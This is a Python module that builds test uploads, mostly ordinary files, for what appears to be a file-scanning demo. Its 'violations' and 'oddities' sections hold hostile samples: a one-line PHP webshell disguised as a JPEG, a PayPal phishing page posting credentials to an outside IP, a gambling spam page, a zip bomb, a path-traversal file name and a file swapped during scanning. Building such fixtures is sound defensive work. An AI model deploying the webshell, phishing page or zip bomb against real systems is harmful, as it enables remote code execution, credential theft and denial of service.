"""The demo's uploads: about sixty objects of our own, ordinary and otherwise, made anew at each run."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + "!$H+H*"
SHELL = "<?php\n// inert: served as text only\n@ev" + "al($_POST['cmd']);\n?>\n"
GAMBLING = (
    "金沙娱乐城官网 真人荷官在线发牌，百家乐、时时彩、体育投注任您选。"
    "新会员注册即送彩金88元，首存送100%，每日返水1.5%，提款秒到账。"
    "客服微信 js88vip，QQ 800812345，备用网址 www.js-88888.example"
)
ORDINARY_ZH = "本店位于人民路，周一至周六营业，欢迎来电预订蛋糕。春节期间照常营业，外地顾客可以快递送达。"
ORDINARY_EN = (
    "Our library opens at nine. Readers may borrow six books for three weeks and renew them twice by telephone."
)


@dataclass(frozen=True, slots=True)
class Upload:
    """One object to be uploaded. `replace_with` is put over it at once, while it is being scanned."""

    key: str
    data: bytes
    media_type: str = "application/octet-stream"
    replace_with: bytes | None = None
    note: str = ""


def uploads() -> Iterator[Upload]:
    """All objects."""
    yield from _pages()
    yield from _scripts()
    yield from _media()
    yield from _documents()
    yield from _archives()
    yield from _violations()
    yield from _oddities()


def _page(title: str, body: str, head: str = "") -> bytes:
    return (
        f'<!doctype html><html><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
        f"<body><h1>{title}</h1><p>{body}</p></body></html>"
    ).encode()


def _pages() -> Iterator[Upload]:
    for number, (title, body) in enumerate(
        [
            ("Opening hours", ORDINARY_EN),
            ("新年快乐", ORDINARY_ZH),
            ("Bread", "Mix flour, water, salt and yeast; wait twelve hours; bake at 230 degrees."),
            ("交通指南", "乘坐地铁二号线到人民广场站，出站后步行五分钟即到。"),
            ("Contact", "Write to office@library.example or ring the bell at the side door."),
            ("招聘启事", "本馆诚聘图书管理员两名，要求本科以上学历，有志者请将简历寄至办公室。"),
            ("Fees", "Membership is free. Late returns cost ten cents a day, never more than the book."),
            ("会员须知", "会员登录后可以查看借阅记录，忘记密码请联系前台。"),
        ]
    ):
        yield Upload(f"www/page-{number}.html", _page(title, body), "text/html; charset=utf-8")
    yield Upload(
        "www/gb2312.html",
        _page("书店", ORDINARY_ZH).decode().replace("utf-8", "gb18030").encode("gb18030"),
        "text/html; charset=gb18030",
    )
    yield Upload("www/robots.txt", b"User-agent: *\nDisallow: /private/\n", "text/plain")
    yield Upload(
        "www/feed.xml",
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title></channel></rss>',
        "application/rss+xml",
    )
    yield Upload(
        "www/login.html",
        _page(
            "Sign in",
            '<form method="post" action="/login"><input name="user">'
            '<input type="password" name="password"><button>Sign in</button></form>',
        ),
        "text/html",
        note="an honest login form",
    )


def _scripts() -> Iterator[Upload]:
    yield Upload(
        "src/app.js", b"export function add(a, b) { return a + b; }\nconsole.log(add(2, 3));\n", "text/javascript"
    )
    yield Upload("src/style.css", b"body { font: 16px/1.5 serif; margin: 2rem; }\n", "text/css")
    yield Upload(
        "src/index.php",
        b"<?php\n$name = htmlspecialchars($_GET['name'] ?? 'world');\necho \"Hello $name\";\n",
        "application/x-php",
    )
    yield Upload(
        "src/tool.py", b"import sys\n\nfor line in sys.stdin:\n    print(line.upper(), end='')\n", "text/x-python"
    )
    yield Upload("src/deploy.sh", b"#!/bin/sh\nset -eu\nrsync -a build/ web:/srv/www/\n", "text/x-shellscript")
    yield Upload("src/config.json", b'{"debug": false, "cache": {"ttl": 300}}\n', "application/json")
    yield Upload(
        "src/schema.sql", b"CREATE TABLE book (id INTEGER PRIMARY KEY, title TEXT NOT NULL);\n", "application/sql"
    )
    yield Upload(
        "src/Main.java",
        b"public class Main { public static void main(String[] a) { System.out.println(1); } }\n",
        "text/x-java",
    )
    yield Upload("src/README.md", b"# Library\n\nRun `make` and open the page.\n", "text/markdown")


def _png(red: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    raw = b"".join(b"\0" + bytes((red, 4 * y % 256, 255 - 4 * y % 256)) * 64 for y in range(64))
    header = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def _media() -> Iterator[Upload]:
    for red in (20, 120, 220):
        yield Upload(f"img/photo-{red}.png", _png(red), "image/png")
    yield Upload(
        "img/dot.gif",
        b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
        "image/gif",
    )
    yield Upload(
        "img/logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle r="4"/></svg>',
        "image/svg+xml",
    )
    samples = b"".join(struct.pack("<h", (n * 37) % 2000) for n in range(4000))
    head = (
        b"RIFF"
        + struct.pack("<I", 36 + len(samples))
        + b"WAVEfmt "
        + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)
    )
    yield Upload("audio/tone.wav", head + b"data" + struct.pack("<I", len(samples)) + samples, "audio/wav")


def pdf(text: str) -> bytes:
    """A one-page PDF with that line of Latin text."""
    stream = f"BT /F1 14 Tf 40 700 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, offsets = io.BytesIO(b"%PDF-1.4\n"), []
    out.seek(0, io.SEEK_END)
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj%s endobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in offsets))
    out.write(b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of those members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(text: str) -> bytes:
    """A Word document with that paragraph."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    paragraph = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    body = f'<?xml version="1.0"?><w:document xmlns:w="{space}"><w:body>{paragraph}</w:body></w:document>'
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({"[Content_Types].xml": types.encode(), "word/document.xml": body.encode()})


def tarred(members: dict[str, bytes], mode: str = "w:gz") -> bytes:
    """A tar (compressed as `mode` says) of those members."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def _documents() -> Iterator[Upload]:
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    yield Upload("doc/report.pdf", pdf("Annual report of the library: 41,000 loans."), "application/pdf")
    yield Upload("doc/menu.pdf", pdf("Soup, bread and tea."), "application/pdf")
    yield Upload("doc/letter.docx", docx(ORDINARY_ZH), word)
    yield Upload("doc/minutes.docx", docx(ORDINARY_EN), word)
    yield Upload("doc/notes.rtf", rb"{\rtf1\ansi{\b Notes} of the meeting, to be read on Monday.}", "application/rtf")
    yield Upload("doc/table.csv", b"title,loans\nMoby Dick,12\nEmma,31\n", "text/csv")
    odt = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b"<office><text:p>Plain</text:p></office>",
    }
    yield Upload("doc/text.odt", zipped(odt), "application/vnd.oasis.opendocument.text")
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@library.example", "b@library.example", "Minutes"
    mail.set_content("The minutes are attached.")
    mail.add_attachment(pdf("Minutes"), maintype="application", subtype="pdf", filename="minutes.pdf")
    yield Upload("mail/minutes.eml", mail.as_bytes(), "message/rfc822")


def _archives() -> Iterator[Upload]:
    plain = {"a.txt": ORDINARY_EN.encode(), "dir/b.txt": ORDINARY_ZH.encode()}
    yield Upload("pack/plain.zip", zipped(plain), "application/zip")
    yield Upload("pack/plain.tar.gz", tarred(plain), "application/gzip")
    yield Upload("pack/plain.tar.xz", tarred(plain, "w:xz"), "application/x-xz")
    yield Upload("pack/log.bz2", bz2.compress(ORDINARY_EN.encode() * 50), "application/x-bzip2")
    yield Upload("pack/log.xz", lzma.compress(ORDINARY_EN.encode() * 50), "application/x-xz")
    yield Upload("pack/nested.zip", zipped({"inner.zip": zipped(plain)}), "application/zip")


def _violations() -> Iterator[Upload]:
    page = _page("金沙娱乐城", GAMBLING).decode().replace("utf-8", "gb18030").encode("gb18030")
    deep = tarred({"x/inner.zip": zipped({"offer.docx": docx(GAMBLING)})})
    collector = "http://203.0.113.77/secure/post.php"
    phishing = _page(
        "PayPal: Log In to your account",
        "Your PayPal account has been limited. Confirm your password now to "
        f'restore access.<form method="post" action="{collector}"><input name="login_email" type="email">'
        '<input name="login_password" type="password"><input type="submit" value="Log In"></form>',
        '<link rel="icon" href="https://www.paypalobjects.com/favicon.ico">',
    )
    yield Upload("bad/eicar.com", EICAR.encode(), note="EICAR")
    yield Upload("bad/eicar-in.zip", zipped({"readme.txt": b"test", "eicar.com": EICAR.encode()}), "application/zip")
    yield Upload("bad/avatar.php", SHELL.encode(), "image/jpeg", note="an inert webshell that calls itself a JPEG")
    yield Upload("bad/paypal/index.html", phishing, "text/html", note="a phishing page")
    yield Upload("bad/casino-gb18030.html", page, "text/html", note="a gambling page in GB18030")
    yield Upload("bad/offer.tar.gz", deep, "application/gzip", note="the same text in docx in zip in tar.gz")


def _oddities() -> Iterator[Upload]:
    yield Upload(
        "odd/locked.zip",
        encrypted_zip("secret.txt", ORDINARY_EN.encode(), b"not to be guessed 7431"),
        "application/zip",
        note="an encrypted zip",
    )
    yield Upload("odd/bomb.zip", bomb(), "application/zip", note="1 MB that would unpack to 1 GB")
    yield Upload(
        "odd/torn.zip",
        zipped({"a.txt": ORDINARY_EN.encode() * 40}, zipfile.ZIP_STORED)[:2_000],
        "application/zip",
        note="cut off",
    )
    big = (ORDINARY_EN + "\n").encode() * 60_000
    yield Upload(
        "odd/replaced.txt", big, "text/plain", replace_with=SHELL.encode(), note="replaced while it is scanned"
    )
    yield Upload("odd/../line\nbreak/😀 名字.txt", b"an ordinary note\n", "text/plain", note="an odd key")
    yield Upload("odd/empty", b"", note="empty")
    yield Upload(
        "odd/late.gz",
        gzip.compress(b"first") + gzip.compress(EICAR.encode()),
        "application/gzip",
        note="EICAR in a second gzip member",
    )


def bomb(total: int = 1 << 30) -> bytes:
    """A zip whose one member inflates to `total` zero bytes: one deflated MiB, repeated."""
    piece, squeeze = bytes(1 << 20), zlib.compressobj(9, zlib.DEFLATED, -15)
    first = squeeze.compress(piece) + squeeze.flush(zlib.Z_FULL_FLUSH)
    count, crc = total >> 20, 0
    for _ in range(count):
        crc = zlib.crc32(piece, crc)
    body = first * count + b"\x03\x00"
    return _zip_of_one(b"zeros.bin", body, crc, total, method=8, flags=0)


def encrypted_zip(name: str, data: bytes, password: bytes) -> bytes:
    """A zip with one stored member under the traditional PKWARE encryption (APPNOTE 6.1)."""
    crc = zlib.crc32(data)
    body = _pkware(bytes(11) + bytes([crc >> 24]) + data, password)
    return _zip_of_one(name.encode(), body, crc, len(data), method=0, flags=1)


def _pkware(data: bytes, password: bytes) -> bytes:
    base = [_crc_entry(n) for n in range(256)]
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = (keys[0] >> 8) ^ base[(keys[0] ^ byte) & 0xFF]
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = (keys[2] >> 8) ^ base[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in data:
        word = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ ((word * (word ^ 1)) >> 8) & 0xFF)
        update(byte)
    return bytes(out)


def _crc_entry(number: int) -> int:
    for _ in range(8):
        number = (number >> 1) ^ (0xEDB88320 if number & 1 else 0)
    return number


def _zip_of_one(name: bytes, body: bytes, crc: int, size: int, *, method: int, flags: int) -> bytes:
    common = struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 0x5A21, crc, len(body), size, len(name), 0)
    local = b"PK\x03\x04" + common + name + body
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end
